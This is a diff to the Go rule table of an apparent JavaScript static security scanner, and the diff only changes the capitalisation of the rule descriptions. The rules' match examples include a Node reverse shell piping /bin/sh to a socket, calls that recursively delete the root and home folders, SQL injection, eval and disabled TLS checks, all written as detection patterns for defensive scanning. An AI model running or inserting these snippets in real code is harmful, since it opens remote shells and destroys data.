@@ -30,7 +30,7 @@ func ruleOf(id string) *Rule {
 var rules = []Rule{
 	{
 		ID: "javascript-eval", CWE: "CWE-95", Severity: "error",
-		Description: "Text is run as code.",
+		Description: "text is run as code",
 		Match: []string{
 			"eval(x)",
 			"window.eval(`${a}`)",
@@ -61,7 +61,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-command", CWE: "CWE-78", Severity: "error",
-		Description: "A command line is run by a shell.",
+		Description: "a command line is run by a shell",
 		Match: []string{
 			"require('child_process').exec(cmd)",
 			"const { exec } = require('child_process'); exec('ls ' + d)",
@@ -84,7 +84,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-reverse-shell", CWE: "CWE-506", Severity: "error",
-		Description: "A shell is tied to a connection.",
+		Description: "a shell is tied to a connection",
 		Match: []string{
 			"const net = require('net'), cp = require('child_process'); const s = require('child_process').spawn('/bin/sh', []); new net.Socket().connect(1, 'h', () => c.pipe(s.stdin))",
 		},
@@ -92,7 +92,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-vm", CWE: "CWE-94", Severity: "warning",
-		Description: "Text is run as code by the module vm, which is no sandbox.",
+		Description: "text is run as code by the module vm, which is no sandbox",
 		Match: []string{
 			"const vm = require('vm'); vm.runInNewContext(code)",
 			"import vm from 'node:vm'; new vm.Script(x)",
@@ -101,7 +101,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-html", CWE: "CWE-79", Severity: "warning",
-		Description: "Text becomes markup without being escaped.",
+		Description: "text becomes markup without being escaped",
 		Match: []string{
 			"el.innerHTML = x",
 			"el.outerHTML += '<b>' + name",
@@ -122,13 +122,13 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-post-message", CWE: "CWE-346", Severity: "warning",
-		Description: "A message is sent to a window of any origin.",
+		Description: "a message is sent to a window of any origin",
 		Match:       []string{"parent.postMessage(data, '*')", `w.postMessage({ a: 1, b: [2, 3] }, "*")`},
 		NoMatch:     []string{"parent.postMessage(data, origin)", "worker.postMessage('*')"},
 	},
 	{
 		ID: "javascript-tls-off", CWE: "CWE-295", Severity: "error",
-		Description: "The check of who is at the other end is turned off.",
+		Description: "the check of who is at the other end is turned off",
 		Match: []string{
 			"https.request({ rejectUnauthorized: false })",
 			"process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
@@ -143,7 +143,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-weak-hash", CWE: "CWE-328", Severity: "warning",
-		Description: "A hash is used that is broken.",
+		Description: "a hash is used that is broken",
 		Match: []string{
 			"crypto.createHash('md5')",
 			`createHash("sha1")`,
@@ -155,7 +155,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-weak-cipher", CWE: "CWE-327", Severity: "error",
-		Description: "A cipher or a mode is used that is broken.",
+		Description: "a cipher or a mode is used that is broken",
 		Match: []string{
 			"crypto.createCipher('aes192', k)",
 			"crypto.createCipheriv('des-cbc', k, v)",
@@ -166,7 +166,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-random", CWE: "CWE-338", Severity: "warning",
-		Description: "A secret is made of numbers that can be foretold.",
+		Description: "a secret is made of numbers that can be foretold",
 		Match: []string{
 			"const token = Math.random().toString(36)",
 			"x = { resetToken: 'a' + Math.random() }",
@@ -180,7 +180,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-sql", CWE: "CWE-89", Severity: "error",
-		Description: "Something is put into SQL without a parameter.",
+		Description: "something is put into SQL without a parameter",
 		Match: []string{
 			"db.query('SELECT * FROM u WHERE id = ' + id)",
 			"db.query(`SELECT * FROM u WHERE n = '${n}'`)",
@@ -197,13 +197,13 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-dynamic-load", CWE: "CWE-829", Severity: "warning",
-		Description: "What is loaded is only known when the code runs.",
+		Description: "what is loaded is only known when the code runs",
 		Match:       []string{"require(name)", "await import(`./x/${name}.js`)", "require('./' + lang)"},
 		NoMatch:     []string{"require('fs')", "import('./x.js')", "require(path.join(__dirname, 'x'))", "import x from 'y'"},
 	},
 	{
 		ID: "javascript-deserialize", CWE: "CWE-502", Severity: "error",
-		Description: "Objects are made of text that can hold code.",
+		Description: "objects are made of text that can hold code",
 		Match: []string{
 			"require('node-serialize').unserialize(x)",
 			"const s = require('node-serialize'); s.unserialize(req.body)",
@@ -212,25 +212,25 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-input-path", CWE: "CWE-22", Severity: "warning",
-		Description: "A request names the file.",
+		Description: "a request names the file",
 		Match:       []string{"fs.readFile(req.query.f, cb)", "res.sendFile(path.join(d, req.params.name))"},
 		NoMatch:     []string{"fs.readFile(f, cb)", "fs.readFileSync('a')"},
 	},
 	{
 		ID: "javascript-input-regex", CWE: "CWE-1333", Severity: "warning",
-		Description: "A request writes the regular expression.",
+		Description: "a request writes the regular expression",
 		Match:       []string{"new RegExp(req.query.q)"},
 		NoMatch:     []string{"new RegExp(q)", "new RegExp('a')"},
 	},
 	{
 		ID: "javascript-input-address", CWE: "CWE-918", Severity: "warning",
-		Description: "A request names the address that is asked or sent to.",
+		Description: "a request names the address that is asked or sent to",
 		Match:       []string{"res.redirect(req.query.next)", "axios.get(req.body.url)", "fetch(req.query.u)"},
 		NoMatch:     []string{"res.redirect('/')", "fetch(url)", "app.get('/a', (req) => req.query)"},
 	},
 	{
 		ID: "javascript-credential", CWE: "CWE-798", Severity: "warning",
-		Description: "A password or a key stands in the code.",
+		Description: "a password or a key stands in the code",
 		Match: []string{
 			"const password = 'hunter2hunter2'",
 			`x = { apiKey: "a8f5f167f44f4964e6c998dee827110c" }`,
@@ -246,13 +246,13 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-prototype", CWE: "CWE-1321", Severity: "warning",
-		Description: "The prototype of all objects is changed by a name.",
+		Description: "the prototype of all objects is changed by a name",
 		Match:       []string{"a.__proto__.isAdmin = true", "a['__proto__']['x'] = 1", "a.__proto__ = { admin: 1 }"},
 		NoMatch:     []string{"x = { __proto__: null }", "B.__proto__ = A", "Object.create(null)"},
 	},
 	{
 		ID: "javascript-cors", CWE: "CWE-942", Severity: "warning",
-		Description: "Every site may read answers that are somebody's own.",
+		Description: "every site may read answers that are somebody's own",
 		Match: []string{
 			"cors({ origin: '*', credentials: true })",
 			"cors({ credentials: true, origin: true })",
@@ -262,7 +262,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-jwt", CWE: "CWE-347", Severity: "error",
-		Description: "The signature or the age of a token is not checked.",
+		Description: "the signature or the age of a token is not checked",
 		Match: []string{
 			"jwt.verify(t, k, { algorithms: ['none'] })",
 			"jwt.sign(p, '', { algorithm: 'none' })",
@@ -274,7 +274,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "javascript-remove-root", CWE: "", Severity: "error",
-		Description: "The root, a system folder or a home folder is removed.",
+		Description: "the root, a system folder or a home folder is removed",
 		Match: []string{
 			"const fs = require('fs'); fs.rmSync('/', { recursive: true })",
 			"fs.rm(os.homedir(), { recursive: true, force: true })",
